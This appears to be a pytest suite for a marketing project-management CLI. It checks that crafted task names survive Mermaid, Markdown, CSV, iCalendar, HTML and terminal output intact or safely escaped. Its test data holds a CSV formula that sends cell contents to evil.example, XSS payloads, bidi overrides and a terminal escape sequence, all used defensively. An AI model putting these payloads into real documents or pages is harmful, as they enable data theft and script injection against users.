"""A corpus of hostile names through every output format, each read back by its real consumer.

Mermaid's parser (Node), a GFM renderer (markdown-it-py), two iCalendar
parsers, spreadsheet formula detection, Chromium for the HTML report, the
terminal and GitHub's workflow-command syntax: each output still parses, and
each name is intact or safely escaped.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import run_mpm
from consumers import chromium_dom, csv_formula_cells, ics_events, markdown_html, mermaid_parse

AS_OF = "2027-01-04"
BIDI = "\u202e"

# Each was seen to break a real consumer (issue 16), or is a classic of its kind.
NAMES = [
    "Click tracking QA for the emails",
    "call back list",
    "2026-11-20 store walk",
    "topAxis review",
    "Title card and end slate",
    "Section banners for the homepage",
    "Email #2: the teaser",
    "dateFormat and axisFormat; excludes weekends",
    "100% done %% not a comment",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 upsell offer",
    "-20% flash sale",
    "@channel announcement",
    "**bold** and _italic_ and ~~struck~~",
    "[click me](javascript:alert(1))",
    "<draft> copy for <b>review</b>",
    '<img src=x onerror="alert(1)">',
    "pipe | in | the name",
    "back`tick`s and \\backslash",
    "# not a heading",
    "1. not a list",
    "> not a quote",
    "Quotes \"double\" and 'single' & ampersand",
    "春のキャンペーン 素材",
    "Launch 🚀 party 🎉",
    f"bidi {BIDI}reversed{chr(0x202C)} text",
    "Two\nlines of copy",
]
NOTE = "Rejected: **no** budget\n| a | b |\n<script>alert(1)</script>\nsee [x](javascript:alert(1))"


def shown(name: str) -> str:
    """What a reader should see: the name without bidi controls."""
    return re.sub("[\u202a-\u202e\u2066-\u2069]", "", name)


def flat(name: str) -> str:
    """The name on one line, as a chart label or a list item shows it."""
    return " ".join(shown(name).split("\n"))


def _workspace(root: Path) -> Path:
    (root / "campaigns" / "spring").mkdir(parents=True)
    (root / "mpm.yaml").write_text(
        "name: \"Hostile & <names> #1\"\nteam:\n  - {id: ana, name: Ana <Lima> *A*, capacity_hours_per_week: 40}\n",
        encoding="utf-8")
    (root / "campaigns/spring/campaign.yaml").write_text(
        f"name: {json.dumps('Title: section #1 ' + BIDI + 'x')}\nowner: ana\nstart: 2027-01-04\nend: 2027-06-30\n",
        encoding="utf-8")
    tasks = []
    for i, name in enumerate(NAMES):
        tasks.append(f"- id: t{i}\n  name: {json.dumps(name, ensure_ascii=False)}\n  owner: ana\n  duration: 1\n"
                     f"  due: 2027-01-0{4 + (i % 2)}\n")
    tasks.append(f"- id: gate\n  name: {json.dumps('Title milestone: #go')}\n  milestone: true\n"
                 f"  depends_on: [t0]\n  approvals:\n    - by: ana\n      status: rejected\n"
                 f"      note: {json.dumps(NOTE)}\n")
    (root / "campaigns/spring/tasks.yaml").write_text("".join(tasks), encoding="utf-8")
    (root / "campaigns/spring/risks.yaml").write_text(
        f"- id: r1\n  title: {json.dumps(NAMES[9])}\n  likelihood: 3\n  impact: 4\n  affects: [t1]\n"
        f"  mitigation: {json.dumps(NAMES[13])}\n", encoding="utf-8")
    return root


@pytest.fixture(scope="module")
def ws(tmp_path_factory) -> Path:
    root = _workspace(tmp_path_factory.mktemp("hostile") / "ws")
    r = run_mpm("check", "-w", str(root))
    assert r.exit_code == 0, r.output  # bidi controls are warnings, not errors
    assert "W305" in r.stdout
    return root


class _Text(HTMLParser):
    """The visible text of an HTML fragment, and the tags in it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _read_html(markup: str) -> _Text:
    p = _Text()
    p.feed(markup)
    return p


def test_mermaid_chart_keeps_every_name(ws):
    r = run_mpm("export", "mermaid", "-w", str(ws), "--as-of", AS_OF)
    got = mermaid_parse(r.stdout)
    assert got["ok"], got.get("error")
    assert got["title"] == "Hostile & <names> #1"
    texts = [t["task"] for t in got["tasks"]]
    assert sorted(texts[:-1]) == sorted([*(flat(n) for n in NAMES), "Title milestone: #go"])
    assert {t["section"] for t in got["tasks"]} == {"Title: section #1 x"}
    assert texts[-1] == f"as of {AS_OF}"


def test_markdown_report_reads_as_written(ws):
    r = run_mpm("report", "-w", str(ws), "--as-of", AS_OF)
    block = re.search(r"```mermaid\n(.*?)```", r.stdout, re.S)
    assert block and mermaid_parse(block[1])["ok"]
    page = _read_html(markdown_html(r.stdout))
    allowed = {"h1", "h2", "h3", "p", "strong", "em", "code", "pre", "ul", "li", "table", "thead", "tbody",
               "tr", "th", "td", "a", "blockquote", "br"}
    assert {tag for tag, _ in page.tags} <= allowed, page.tags
    assert all(attrs.get("href", "#").startswith("#") for tag, attrs in page.tags if tag == "a")
    text = "".join(page.text)
    for name in NAMES[:9] + NAMES[13:]:  # the risk names the rest
        assert flat(name) in text, name
    assert "Rejected: **no** budget | a | b | <script>alert(1)</script> see [x](javascript:alert(1))" in text
    assert BIDI not in r.stdout


def test_status_markdown_keeps_one_row_per_finding(ws):
    r = run_mpm("status", "-w", str(ws), "--as-of", AS_OF, "--format", "md", "--fail-on", "never")
    rows = [line for line in r.stdout.splitlines() if line.startswith("| ") and not line.startswith("| | code")]
    findings = json.loads(run_mpm("status", "-w", str(ws), "--as-of", AS_OF, "--format", "json").stdout)
    assert len(rows) == len(findings["findings"])
    page = _read_html(markdown_html(r.stdout))
    cells = sum(1 for tag, _ in page.tags if tag == "td")
    assert cells == 5 * len(findings["findings"]), "a name or note split a row"
    assert not {tag for tag, _ in page.tags} & {"img", "script", "b", "strong", "em", "del"}


def test_csv_has_no_formula_and_keeps_the_text(ws):
    r = run_mpm("export", "csv", "-w", str(ws), "--as-of", AS_OF)
    assert r.stdout.startswith("\ufeff")
    assert csv_formula_cells(r.stdout) == []
    for name in NAMES:
        if name[0] in "=+-@":
            assert f"'{name}" in r.stdout.replace('""', '"')
    raw = run_mpm("export", "csv", "-w", str(ws), "--as-of", AS_OF, "--raw", "--no-bom")
    assert not raw.stdout.startswith("\ufeff")
    assert len(csv_formula_cells(raw.stdout)) == 4, "--raw writes the cells as they are"


def test_calendar_parses_in_two_parsers(ws):
    r = run_mpm("export", "ics", "-w", str(ws), "--as-of", AS_OF)
    events = ics_events(r.stdout.encode("utf-8"))
    summaries = {e["summary"] for e in events}
    for name in NAMES:
        assert f"{flat(name)} [spring]" in summaries, name
    assert len({e["uid"] for e in events}) == len(events)
    assert all(e["uid"].endswith("@hostile-names-1.mpm") for e in events)


def test_html_report_in_chromium(ws, tmp_path):
    page = tmp_path / "report.html"
    run_mpm("report", "-w", str(ws), "--as-of", AS_OF, "--format", "html", "-o", str(page))
    markup = page.read_text(encoding="utf-8")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", markup)
    dom = chromium_dom(page, tmp_path / "profile")
    parsed = _read_html(dom)
    assert not [t for t, a in parsed.tags if t in ("img", "script") or any(k.startswith("on") for k in a)]
    text = "".join(parsed.text)
    assert "Title: section #1 x" in text
    for name in NAMES:
        assert flat(name)[:30] in text or shown(name) in text, name  # Gantt labels are cut, lists hold all


def test_terminal_output_holds_no_control_character(ws):
    for args in (["plan"], ["status", "--fail-on", "never"], ["risks"], ["check"]):
        r = run_mpm(*args, "-w", str(ws), "--as-of", AS_OF) if args[0] != "check" else run_mpm("check", "-w", str(ws))
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", r.output), args


def test_the_written_file_line_holds_no_control_character(ws, tmp_path):
    folder = tmp_path / f"out\x1b[2J{BIDI}dir"
    folder.mkdir()
    r = run_mpm("report", "-w", str(ws), "--as-of", AS_OF, "-o", str(folder / "r.md"))
    assert r.exit_code == 0 and (folder / "r.md").is_file()
    assert r.stderr.startswith("wrote the Markdown report to ") and r.stderr.endswith("r.md\n"), r.stderr
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", r.stderr), r.stderr


def test_annotations_are_one_command_per_line(ws):
    r = run_mpm("status", "-w", str(ws), "--as-of", AS_OF, "--format", "github", "--fail-on", "never")
    lines = r.stdout.splitlines()
    assert lines and all(re.match(r"^::(error|warning|notice) file=[^:]+,line=\d+,title=[^:]*::", x) for x in lines)


MD_TAGS = {"h1", "h2", "h3", "h4", "p", "strong", "em", "code", "pre", "ul", "li", "table", "thead", "tbody",
           "tr", "th", "td", "a", "blockquote", "br"}


@pytest.mark.parametrize("command", ["plan", "status", "quarter", "goals", "risks", "budget", "report"])
def test_every_markdown_view_renders_only_its_own_markup(ws, command):
    args = [command, "-w", str(ws)] + (["--as-of", AS_OF] if command != "budget" else [])
    if command != "report":
        args += ["--format", "md"]
    if command == "status":
        args += ["--fail-on", "never"]
    r = run_mpm(*args)
    assert r.exit_code == 0, r.output
    page = _read_html(markdown_html(r.stdout))
    assert {tag for tag, _ in page.tags} <= MD_TAGS, (command, {t for t, _ in page.tags} - MD_TAGS)
    assert all(attrs.get("href", "#").startswith("#") for tag, attrs in page.tags if tag == "a")
    assert BIDI not in r.stdout


@pytest.mark.parametrize("command", ["plan", "status", "risks", "goals", "budget", "quarter"])
def test_json_views_parse(ws, command):
    r = run_mpm(command, "-w", str(ws), *(["--as-of", AS_OF] if command != "budget" else []), "--format", "json")
    assert json.loads(r.stdout)["schema"] == f"mpm/{command}/1"


def test_json_export_keeps_names_exact(ws):
    doc = json.loads(run_mpm("export", "json", "-w", str(ws), "--as-of", AS_OF).stdout)
    names = [t["name"] for c in doc["campaigns"] for t in c["tasks"]]
    assert names[:len(NAMES)] == NAMES  # the machine interface holds the data as written


def test_mermaid_draws_every_name_in_a_browser(ws, tmp_path):
    from consumers import mermaid_render

    chart = run_mpm("export", "mermaid", "-w", str(ws), "--as-of", AS_OF).stdout
    drawn = mermaid_render(chart, tmp_path)
    assert drawn["done"] and not drawn["error"], drawn["error"]
    assert sorted(drawn["texts"]) == sorted([*(flat(n) for n in NAMES), "Title milestone: #go", f"as of {AS_OF}"])
